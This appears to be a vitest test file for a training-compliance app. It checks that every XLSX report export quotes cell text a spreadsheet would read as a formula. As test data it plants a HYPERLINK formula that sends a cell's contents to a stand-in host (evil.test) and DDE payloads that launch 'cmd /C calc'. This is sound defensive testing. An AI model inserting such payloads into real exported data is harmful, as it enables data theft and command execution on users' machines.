/**
 * Issue 11 §13: formula injection. A user named like a formula, in a role and course named like formulas, is
 * exported by every XLSX report; each text cell comes back as text that starts with a single quote.
 */
import { PERMISSIONS } from '@cc/contracts';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, buildEntity, buildRole, buildUser } from '../../test/factories';
import { createHarness, type Harness } from '../../test/harness';
import { buildCourse, buildPassedResult } from '../../test/learning-factories';
import { spreadsheetText } from './spreadsheet-text';

const EVIL_NAME = '=HYPERLINK("https://evil.test/?d="&A2,"Click me")';
const EVIL_ROLE = '+cmd|"/C calc"!A0';
const EVIL_COURSE = '@SUM(1+1)*cmd|"/C calc"!A0';

let h: Harness;
let headers: Record<string, string>;
beforeAll(async () => {
  h = await createHarness();
  const org = await buildEntity(h.db, { level: 'A', name: '-2+3 Care' });
  const role = await buildRole(h.db, org.id, { name: EVIL_ROLE });
  const course = await buildCourse(h.db, org.id, { title: EVIL_COURSE });
  await h.db
    .insertInto('compliance_rules')
    .values({
      entity_id: org.id,
      role_id: role.id,
      course_id: course.id,
      type: 'primary',
      validity_months: 12,
    })
    .execute();
  const user = await buildUser(h.db, { entityId: org.id, roleId: role.id, name: EVIL_NAME });
  await buildPassedResult(h.db, { userId: user.id, entityId: org.id, courseId: course.id });
  const admin = await buildUser(h.db, { entityId: org.id, permissions: PERMISSIONS.map((p) => p.id) });
  headers = await bearer(h.db, admin.id);
});
afterAll(async () => h?.close());

/** Every text cell of every sheet of an XLSX answer. */
async function textCells(payload: Buffer): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(payload as unknown as ArrayBuffer);
  const cells: string[] = [];
  wb.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, `${sheet.name}!${cell.address} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') cells.push(cell.value);
      }),
    ),
  );
  return cells;
}

const EXPORTS: [string, 'GET' | 'POST', string, object?][] = [
  ['matrix', 'POST', '/api/reports/matrix', { directFormat: 'file', format: 'xlsx' }],
  ['results', 'POST', '/api/reports/results', { type: 'xlsx' }],
  ['staff', 'POST', '/api/reports/staff', { compliance_type: 'all' }],
  [
    'certificates',
    'POST',
    '/api/report',
    { report_type: 'certificate', from_date: '2000-01-01', format: 'XLSX' },
  ],
  ['compliance', 'GET', '/api/reports/compliance/export/xlsx?compliance_type=all'],
];

describe('XLSX exports quote text that a spreadsheet would read as a formula', () => {
  it.each(EXPORTS)('%s', async (_name, method, url, payload) => {
    const res = await h.app.inject({ method, url, headers, ...(payload ? { payload } : {}) });
    expect(res.statusCode, res.body).toBe(200);
    const cells = await textCells(res.rawPayload);
    expect(cells.length).toBeGreaterThan(0);
    // Nothing starts like a formula any more.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    // The planted values are there, quoted (which ones a report shows depends on its columns).
    const planted = [EVIL_NAME, EVIL_ROLE, EVIL_COURSE, '-2+3 Care'].filter((v) => cells.includes(`'${v}`));
    expect(planted.length, cells.join(' | ')).toBeGreaterThan(0);
  });
});

describe('spreadsheetText', () => {
  it('quotes values starting with = + - @ tab or carriage return, and nothing else', () => {
    for (const v of ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1']) expect(spreadsheetText(v)).toBe(`'${v}`);
    for (const v of ['Jane Smith', '', "'already", '1-2', 'a=b', 'In date 01/03/2027'])
      expect(spreadsheetText(v)).toBe(v);
  });
});
